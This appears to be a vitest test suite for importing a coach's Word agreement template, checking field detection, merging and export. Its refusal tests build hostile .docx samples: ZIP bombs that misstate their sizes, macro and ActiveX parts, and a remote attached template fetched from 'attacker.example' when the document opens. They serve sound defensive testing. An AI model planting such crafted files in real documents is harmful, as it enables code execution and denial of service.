import { readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { afterEach, describe, expect, it } from 'vitest';
import { exportCommand } from '../../src/main/cli/export';
import {
  EMBEDDED_MESSAGE,
  EXTERNAL_MESSAGE,
  MACROS_MESSAGE,
  MAX_UNPACKED_BYTES,
} from '../../src/main/wordTemplate/checkWordPackage';
import { wordAgreementText } from '../../src/main/wordTemplate/wordAgreement';
import { sha256Of } from '../../src/main/store/templateFiles';
import { MAX_WORD_TEMPLATE_BYTES } from '../../src/shared/schema';
import { EMPTY_CLIENT_DRAFT } from '../../src/shared/domain/emptyRecords';
import { MERGE_BLANK } from '../../src/shared/domain/mergeFields';
import { openHarness, refusal, value, type ApiHarness } from '../unit/apiHarness';
import { tempDirs } from '../helpers/tempDir';
import { docxParts, part } from './support/docxParts';
import { docxToPdf, pdfText } from './support/libreoffice';

const FIXTURE = new URL('../fixtures/word-template/coaching-agreement.docx', import.meta.url);
const fixture = async () => new Uint8Array(await readFile(FIXTURE));
const base64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64');

const dirs = tempDirs();
const harnesses: ApiHarness[] = [];
afterEach(async () => {
  await Promise.all(harnesses.splice(0).map((h) => h.dispose()));
  await dirs.cleanup();
});

/** A practice like the coach's who wrote the fixture: their name and fee are in it as typed. */
async function danasPractice(): Promise<ApiHarness> {
  const h = await openHarness({ exports: true });
  harnesses.push(h);
  const practice = value(await h.api.call('practice:get', {}));
  value(
    await h.api.call('practice:update', {
      profile: {
        ...practice,
        coachName: 'Dana Whitfield',
        businessName: 'Northwind Coaching',
        email: 'dana@northwind-coaching.example',
        dateFormat: 'D MMMM YYYY',
      },
    }),
  );
  const template = value(await h.api.call('template:get', {}));
  value(
    await h.api.call('template:save', {
      template: {
        ...template,
        defaults: {
          ...template.defaults,
          fee: '£1,800 for the programme',
          numberOfSessions: 'six',
          sessionLength: '60 minutes',
          paymentTerms: 'Half is due before the first session, the rest after the third.',
          cancellationNotice: '48 hours',
        },
      },
    }),
  );
  return h;
}

async function templateFiles(h: ApiHarness): Promise<string[]> {
  return readdir(join(h.store.filePath, 'templates')).catch(() => []);
}

/** A ZIP with these parts, as a .docx (or something pretending to be one) is. */
function zipOf(parts: Record<string, string>): Uint8Array {
  return zipSync(Object.fromEntries(Object.entries(parts).map(([k, v]) => [k, strToU8(v)])));
}

const CONTENT_TYPES = (mainType: string, extra = '') =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${mainType}"/>${extra}</Types>`;
const DOCX_MAIN =
  'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const DOCM_MAIN = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const BODY =
  '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{Client name}</w:t></w:r></w:p></w:body></w:document>';

/**
 * A ZIP with the unpacked size of one part rewritten to `size` in its local header and in the
 * central directory, as a crafted file would lie about it.
 */
function withDeclaredSizes(zip: Uint8Array, name: string, size: number): Uint8Array {
  const out = new Uint8Array(zip);
  const view = new DataView(out.buffer);
  const nameBytes = strToU8(name);
  const named = (at: number) =>
    nameBytes.every((byte, i) => out[at + i] === byte) && nameBytes.length > 0;
  for (let at = 0; at + 46 < out.length; at++) {
    const signature = view.getUint32(at, true);
    if (signature === 0x04034b50 && named(at + 30)) view.setUint32(at + 22, size, true);
    if (signature === 0x02014b50 && named(at + 46)) view.setUint32(at + 24, size, true);
  }
  return out;
}

describe('bringing a Word document: refusals', () => {
  const cases: [string, () => Promise<Uint8Array> | Uint8Array, RegExp | string][] = [
    [
      'a file that is not a ZIP at all',
      () => strToU8('Dear client, this is plain text.'),
      /not a Word document/,
    ],
    [
      'a ZIP that is not a Word document',
      () => zipOf({ 'notes.txt': 'hello' }),
      /ZIP archive, not a Word document/,
    ],
    [
      'a spreadsheet',
      () =>
        zipOf({
          '[Content_Types].xml': CONTENT_TYPES(
            'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
          ),
        }),
      /spreadsheet or a presentation/,
    ],
    [
      'a macro-enabled document (.docm)',
      () => zipOf({ '[Content_Types].xml': CONTENT_TYPES(DOCM_MAIN), 'word/document.xml': BODY }),
      MACROS_MESSAGE,
    ],
    [
      'a .docx with a macro project inside',
      async () => {
        return zipSync({
          ...unzipSync(await fixture()),
          'word/vbaProject.bin': strToU8('Attribute VB_Name'),
        });
      },
      MACROS_MESSAGE,
    ],
    [
      'a .docx with an ActiveX control',
      () =>
        zipOf({
          '[Content_Types].xml': CONTENT_TYPES(DOCX_MAIN),
          'word/document.xml': BODY,
          'word/activeX/activeX1.xml': '<ax/>',
        }),
      MACROS_MESSAGE,
    ],
    [
      'a password-protected document',
      () => {
        const ole = new Uint8Array(2048);
        ole.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
        ole.set(Buffer.from('EncryptionInfo', 'utf16le'), 600);
        return ole;
      },
      /protected with a password/,
    ],
    ['a damaged document', async () => (await fixture()).slice(0, 4000), /damaged/],
    [
      'a ZIP bomb: a small file that unpacks to more than a document holds',
      async () =>
        zipSync({
          ...unzipSync(await fixture()),
          'word/media/padding.bin': new Uint8Array(MAX_UNPACKED_BYTES + 1),
        }),
      /unpacks to far more than a Word document holds/,
    ],
    [
      'a ZIP bomb that says its parts are small',
      async () =>
        withDeclaredSizes(
          zipSync({
            ...unzipSync(await fixture()),
            'word/media/padding.bin': new Uint8Array(MAX_UNPACKED_BYTES + 1),
          }),
          'word/media/padding.bin',
          10,
        ),
      /unpacks to far more than a Word document holds/,
    ],
    [
      'a document that fetches its template from the internet when opened',
      async () =>
        zipSync({
          ...unzipSync(await fixture()),
          'word/_rels/settings.xml.rels': strToU8(
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
          ),
        }),
      EXTERNAL_MESSAGE,
    ],
    [
      'a document with a picture linked from another computer',
      async () => {
        const parts = unzipSync(await fixture());
        const rels = strFromU8(parts['word/_rels/document.xml.rels'] ?? new Uint8Array());
        return zipSync({
          ...parts,
          'word/_rels/document.xml.rels': strToU8(
            rels.replace(
              '</Relationships>',
              '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://server/share/logo.png" TargetMode="External"/></Relationships>',
            ),
          ),
        });
      },
      EXTERNAL_MESSAGE,
    ],
    [
      'a document with an embedded object',
      async () =>
        zipSync({
          ...unzipSync(await fixture()),
          'word/embeddings/oleObject1.bin': strToU8('OLE'),
        }),
      EMBEDDED_MESSAGE,
    ],
    [
      'a document whose text is broken XML',
      () =>
        zipOf({
          '[Content_Types].xml': CONTENT_TYPES(DOCX_MAIN),
          'word/document.xml': '<w:document><w:body><w:p>',
        }),
      /damaged/,
    ],
  ];

  it.each(cases)(
    'refuses %s with a clear message, storing nothing',
    async (_what, make, message) => {
      const h = await danasPractice();
      const before = await h.filesOnDisk();
      const refused = refusal(
        await h.api.call('wordTemplate:import', {
          fileName: 'agreement.docx',
          dataBase64: base64(await make()),
        }),
        'invalid',
      );
      if (typeof message === 'string') expect(refused.message).toBe(message);
      else expect(refused.message).toMatch(message);
      expect(await h.filesOnDisk()).toEqual(before);
      expect(await templateFiles(h)).toEqual([]);
      expect(value(await h.api.call('template:get', {})).wordDocument).toBeUndefined();
    },
  );

  it('keeps a document with links to web pages', async () => {
    const h = await danasPractice();
    const parts = unzipSync(await fixture());
    const rels = strFromU8(parts['word/_rels/document.xml.rels'] ?? new Uint8Array());
    const linked = zipSync({
      ...parts,
      'word/_rels/document.xml.rels': strToU8(
        rels.replace(
          '</Relationships>',
          '<Relationship Id="rIdL" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://northwind-coaching.example/terms" TargetMode="External"/></Relationships>',
        ),
      ),
    });
    value(
      await h.api.call('wordTemplate:import', { fileName: 'a.docx', dataBase64: base64(linked) }),
    );
  });

  it('refuses a document over the size limit, in the contract and again in main', async () => {
    const h = await danasPractice();
    const before = await h.filesOnDisk();
    // Just over the limit: the contract lets its base64 through, main counts the bytes.
    const justOver = new Uint8Array(MAX_WORD_TEMPLATE_BYTES + 1);
    justOver.set([0x50, 0x4b, 0x03, 0x04]);
    const inMain = refusal(
      await h.api.handle('wordTemplate:import', {
        fileName: 'big.docx',
        dataBase64: base64(justOver),
      }),
      'invalid',
    );
    expect(inMain.message).toMatch(/^The document is 10\.0 MB, more than the 10 MB/);
    // Far over: refused by the contract before anything is decoded.
    const huge = new Uint8Array(MAX_WORD_TEMPLATE_BYTES + 64 * 1024);
    const inContract = refusal(
      await h.api.handle('wordTemplate:import', { fileName: 'big.docx', dataBase64: base64(huge) }),
      'invalid',
    );
    expect(inContract.message).toMatch(/larger than 10 MB/);
    expect(await templateFiles(h)).toEqual([]);
    expect(await h.filesOnDisk()).toEqual(before);
  });

  it('never lets a plain template save point at a document it did not check', async () => {
    const h = await danasPractice();
    const template = value(await h.api.call('template:get', {}));
    const saved = value(
      await h.api.call('template:save', {
        template: {
          ...template,
          wordDocument: {
            fileName: 'x.docx',
            sha256: 'a'.repeat(64),
            size: 10,
            importedAt: new Date().toISOString(),
          },
        },
      }),
    );
    expect(saved.wordDocument).toBeUndefined();
    expect(value(await h.api.call('template:get', {})).wordDocument).toBeUndefined();
  });
});

describe("the coach's own Word agreement, filled for a client", () => {
  it('is kept by its fingerprint, lists its fields, and offers to turn the coach’s details into fields', async () => {
    const h = await danasPractice();
    const bytes = await fixture();
    const seen = value(
      await h.api.call('wordTemplate:import', {
        fileName: 'C:\\Users\\dana\\My agreement.docx',
        dataBase64: base64(bytes),
      }),
    );
    expect(seen.document).toMatchObject({
      fileName: 'My agreement.docx',
      sha256: sha256Of(bytes),
      size: bytes.byteLength,
    });
    const kept = join(h.store.filePath, 'templates', `${sha256Of(bytes)}.docx`);
    expect(new Uint8Array(await readFile(kept))).toEqual(bytes);
    if (process.platform !== 'win32') expect((await stat(kept)).mode & 0o777).toBe(0o600);
    expect(seen.template.wordDocument).toEqual(seen.document);
    // The split field {Number of |sessions} is found as one; the coach's own invention is listed.
    expect(seen.fields.known).toEqual(
      expect.arrayContaining([
        'clientName',
        'startDate',
        'numberOfSessions',
        'fee',
        'agreementDate',
      ]),
    );
    expect(seen.fields.unknown).toEqual(['Programme name']);
    const offered = Object.fromEntries(seen.suggestions.map((s) => [s.text, s]));
    expect(offered['Dana Whitfield']).toMatchObject({ key: 'coachName', count: 2 });
    expect(offered['Northwind Coaching']).toMatchObject({ key: 'businessName' });
    expect(offered['dana@northwind-coaching.example']).toMatchObject({
      key: 'coachEmail',
      count: 2,
    });

    // The coach ticks their name and e-mail: a new document, the first one kept as it was.
    const marked = value(
      await h.api.call('wordTemplate:markFields', {
        sha256: seen.document.sha256,
        fields: [
          { text: 'Dana Whitfield', key: 'coachName' },
          { text: 'dana@northwind-coaching.example', key: 'coachEmail' },
        ],
      }),
    );
    expect(marked.document.sha256).not.toBe(seen.document.sha256);
    expect(marked.document.fileName).toBe('My agreement.docx');
    expect(marked.fields.known).toEqual(expect.arrayContaining(['coachName', 'coachEmail']));
    expect(marked.suggestions.map((s) => s.text)).not.toContain('Dana Whitfield');
    expect((await templateFiles(h)).sort()).toEqual(
      [`${seen.document.sha256}.docx`, `${marked.document.sha256}.docx`].sort(),
    );
    const header = part(
      docxParts(
        new Uint8Array(
          await readFile(join(h.store.filePath, 'templates', `${marked.document.sha256}.docx`)),
        ),
      ),
      'word/header1.xml',
    );
    expect(header).toContain('{Coach e-mail}');
    // A page that still shows the first document cannot mark the second by mistake.
    refusal(
      await h.api.call('wordTemplate:markFields', {
        sha256: seen.document.sha256,
        fields: [{ text: 'Northwind Coaching', key: 'businessName' }],
      }),
      'conflict',
    );
  });

  it('fills the client’s values through the export, keeping the coach’s styles, header and logo', async () => {
    const h = await danasPractice();
    value(
      await h.api.call('wordTemplate:import', {
        fileName: 'agreement.docx',
        dataBase64: base64(await fixture()),
      }),
    );
    const client = value(
      await h.api.call('clients:create', {
        client: {
          ...EMPTY_CLIENT_DRAFT,
          name: 'Priya Raman',
          startDate: '2026-04-07',
          email: 'priya@example.com',
        },
      }),
    );
    const agreement = value(await h.api.call('agreements:create', { clientId: client.id }));
    const template = value(await h.api.call('template:get', {}));
    expect(agreement.wordDocument).toEqual(template.wordDocument);
    // A save from the page cannot change which document it is made from.
    const savedBack = value(
      await h.api.call('worksheets:save', { worksheet: { ...agreement, wordDocument: undefined } }),
    );
    expect(savedBack.kind === 'agreement' && savedBack.wordDocument).toEqual(template.wordDocument);

    // Before export: what prints, and what is still blank.
    const preview = value(await h.api.call('wordTemplate:preview', { agreementId: agreement.id }));
    expect(preview.unknown).toEqual(['Programme name']);
    expect(preview.missing).toEqual(expect.arrayContaining(['clientOrganization']));
    expect(preview.missing).not.toContain('clientName');
    expect(preview.lines).toContain('Coaching Agreement');
    expect(preview.lines.join('\n')).toContain('We meet for six sessions of 60 minutes');
    expect(preview.lines.join('\n')).not.toMatch(/[{}]/);
    // The text a signature would fingerprint is the same text.
    const text = await wordAgreementText(
      h.store.filePath,
      value(await h.api.call('workbook:get', {})),
      agreement,
    );
    expect(text.ok && text.value).toBe(preview.lines.join('\n'));

    const saved = value(
      await h.api.call('exports:save', {
        document: 'agreement',
        clientId: client.id,
        worksheetId: agreement.id,
      }),
    );
    if (saved.status !== 'saved') throw new Error('not saved');
    const docx = new Uint8Array(await readFile(saved.record.path));
    const parts = docxParts(docx);
    // The coach's named styles, their header with its logo, and their footer are all there.
    expect(part(parts, 'word/styles.xml')).toContain('w:name w:val="Agreement Heading"');
    expect(part(parts, 'word/document.xml')).toContain('w:pStyle w:val="AgreementHeading"');
    expect(part(parts, 'word/header1.xml')).toContain('Northwind Coaching');
    expect(part(parts, 'word/_rels/header1.xml.rels')).toMatch(/Target="media\/image1\.png"/);
    expect(unzipSync(docx)['word/media/image1.png']?.byteLength).toBeGreaterThan(1000);
    // The field Word split over an italic run and a bold run takes the first run's style.
    expect(part(parts, 'word/document.xml')).toMatch(
      /<w:rStyle w:val="EmphasisRun"\/><\/w:rPr><w:t[^>]*>six<\/w:t>/,
    );

    const out = await dirs.make();
    const pdf = await docxToPdf(saved.record.path, out);
    const printed = await pdfText(pdf);
    expect(printed).toContain('This agreement is between Priya Raman of');
    expect(printed).toContain('It starts on 7 April 2026.');
    expect(printed).toContain('The fee is £1,800 for the programme.');
    expect(printed).toContain(`Your programme, ${MERGE_BLANK}, is built`);
    expect(printed).toContain('Coaching agreement · page 1');
    expect(printed).not.toMatch(/[{}]/);
  }, 60_000);

  it('exports the same filled document from the command line', async () => {
    const h = await danasPractice();
    value(
      await h.api.call('wordTemplate:import', {
        fileName: 'agreement.docx',
        dataBase64: base64(await fixture()),
      }),
    );
    const client = value(
      await h.api.call('clients:create', {
        client: { ...EMPTY_CLIENT_DRAFT, name: 'Tomás Ortega' },
      }),
    );
    value(await h.api.call('agreements:create', { clientId: client.id }));
    const out = join(await dirs.make(), 'agreement.docx');
    const said: string[] = [];
    const code = await exportCommand.run(
      [
        '--workbook',
        h.store.filePath,
        '--document',
        'agreement',
        '--client',
        client.id,
        '--out',
        out,
      ],
      { out: (line: string) => said.push(line), err: (line: string) => said.push(line) },
    );
    expect(said.join('\n')).toMatch(
      /^Saved Coaching Policies and Procedures Agreement for Tomás Ortega/,
    );
    expect(code).toBe(0);
    const document = part(docxParts(new Uint8Array(await readFile(out))), 'word/document.xml');
    expect(document).toContain('Tomás Ortega');
    expect(document).not.toMatch(/\{[^}]*\}/);
  });

  it('goes back to the app’s clauses when the coach stops using it, keeping the file', async () => {
    const h = await danasPractice();
    const seen = value(
      await h.api.call('wordTemplate:import', {
        fileName: 'agreement.docx',
        dataBase64: base64(await fixture()),
      }),
    );
    const template = value(await h.api.call('wordTemplate:stopUsing', {}));
    expect(template.wordDocument).toBeUndefined();
    expect(template.clauses.length).toBeGreaterThan(0);
    expect(await templateFiles(h)).toEqual([`${seen.document.sha256}.docx`]);
    const client = value(
      await h.api.call('clients:create', { client: { ...EMPTY_CLIENT_DRAFT, name: 'Ann Lee' } }),
    );
    expect(
      value(await h.api.call('agreements:create', { clientId: client.id })).wordDocument,
    ).toBeUndefined();
    refusal(await h.api.call('wordTemplate:inspect', {}), 'notFound');
  });
});

/** The fixture with its body replaced by these paragraphs (its header and footer kept). */
async function documentSaying(...paragraphs: string[]): Promise<Uint8Array> {
  const body = paragraphs
    .map((text) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`)
    .join('');
  return zipSync({
    ...unzipSync(await fixture()),
    'word/document.xml': strToU8(
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
    ),
  });
}

describe('turning details into fields', () => {
  it('replaces whole words and amounts only, and only what it offered', async () => {
    const h = await danasPractice();
    const template = value(await h.api.call('template:get', {}));
    value(
      await h.api.call('template:save', {
        template: { ...template, defaults: { ...template.defaults, fee: '£100' } },
      }),
    );
    value(await h.api.call('clients:create', { client: { ...EMPTY_CLIENT_DRAFT, name: 'Mark' } }));
    const seen = value(
      await h.api.call('wordTemplate:import', {
        fileName: 'plan.docx',
        dataBase64: base64(
          await documentSaying('Marketing plan for Mark. Fee £1000, or £100 (not £100,000).'),
        ),
      }),
    );
    const offered = Object.fromEntries(seen.suggestions.map((s) => [s.text, s.count]));
    expect(offered).toMatchObject({ Mark: 1, '£100': 1 });

    // The page can only ask for what was offered: any other text is refused, nothing changes.
    for (const text of ['Marketing', 'plan for', '£1000']) {
      const refused = refusal(
        await h.api.call('wordTemplate:markFields', {
          sha256: seen.document.sha256,
          fields: [{ text, key: 'clientName' }],
        }),
        'invalid',
      );
      expect(refused.message).toMatch(/not one of the details found in your document/);
    }
    expect(value(await h.api.call('template:get', {})).wordDocument).toEqual(seen.document);

    const marked = value(
      await h.api.call('wordTemplate:markFields', {
        sha256: seen.document.sha256,
        fields: [
          { text: 'Mark', key: 'clientName' },
          { text: '£100', key: 'fee' },
        ],
      }),
    );
    const kept = new Uint8Array(
      await readFile(join(h.store.filePath, 'templates', `${marked.document.sha256}.docx`)),
    );
    const body = part(docxParts(kept), 'word/document.xml');
    expect(body).toContain('Marketing plan for {Client name}. Fee £1000, or {Fee} (not £100,000).');
    expect(marked.fields.known).toEqual(expect.arrayContaining(['clientName', 'fee']));
  });
});

describe('braces in a Word agreement', () => {
  it('fills {{fields}} too, and lists any brace left before export, never a field', async () => {
    const h = await danasPractice();
    value(
      await h.api.call('wordTemplate:import', {
        fileName: 'old habits.docx',
        dataBase64: base64(
          await documentSaying(
            'Dear {{Client name}}, welcome.',
            'See {b {c}} here.',
            'A lone { stays.',
            'Fee: {{fee}}.',
          ),
        ),
      }),
    );
    const client = value(
      await h.api.call('clients:create', {
        client: { ...EMPTY_CLIENT_DRAFT, name: 'Alex {Al} Moss' },
      }),
    );
    const agreement = value(await h.api.call('agreements:create', { clientId: client.id }));
    const preview = value(await h.api.call('wordTemplate:preview', { agreementId: agreement.id }));
    expect(preview.lines).toContain('Dear Alex {Al} Moss, welcome.');
    expect(preview.lines).toContain('Fee: £1,800 for the programme.');
    expect(preview.lines).toContain(`See ${MERGE_BLANK} here.`);
    expect(preview.lines).toContain('A lone { stays.');
    // The coach's data may hold braces; only the document's own are listed.
    expect(preview.strayBraces).toEqual(['A lone { stays.']);

    const saved = value(
      await h.api.call('exports:save', {
        document: 'agreement',
        clientId: client.id,
        worksheetId: agreement.id,
      }),
    );
    if (saved.status !== 'saved') throw new Error('not saved');
    const body = part(
      docxParts(new Uint8Array(await readFile(saved.record.path))),
      'word/document.xml',
    );
    const text = body.replace(/<[^>]*>/g, '');
    expect(text.replace('{Al}', '')).not.toMatch(/\{[^{}]*\}/);
    expect(text).not.toMatch(/[\uE000\uE001]/);
    expect(text).toContain('Dear Alex {Al} Moss, welcome.');
  });
});

describe('the kept Word document in the workbook folder', () => {
  it('is written again when damaged, and a missing one may still be syncing', async () => {
    const h = await danasPractice();
    const bytes = await fixture();
    const seen = value(
      await h.api.call('wordTemplate:import', { fileName: 'a.docx', dataBase64: base64(bytes) }),
    );
    const kept = join(h.store.filePath, 'templates', `${seen.document.sha256}.docx`);
    // Damaged in place, same size: a sync gone wrong.
    const damaged = new Uint8Array(bytes);
    damaged[2000] = (damaged[2000] ?? 0) ^ 0xff;
    await writeFile(kept, damaged);
    const changed = refusal(await h.api.call('wordTemplate:inspect', {}), 'conflict');
    expect(changed.message).toMatch(/wait until syncing finishes and try again/);
    // Bringing the same document in again repairs it.
    value(
      await h.api.call('wordTemplate:import', { fileName: 'a.docx', dataBase64: base64(bytes) }),
    );
    expect(new Uint8Array(await readFile(kept))).toEqual(bytes);
    value(await h.api.call('wordTemplate:inspect', {}));

    await rm(kept);
    const missing = refusal(await h.api.call('wordTemplate:inspect', {}), 'notFound');
    expect(missing.message).toMatch(
      /may still be syncing from your other computer\. If this workbook is in a synced folder, wait until syncing finishes and try again/,
    );
    expect(missing.message).not.toMatch(/backup/);
  });
});
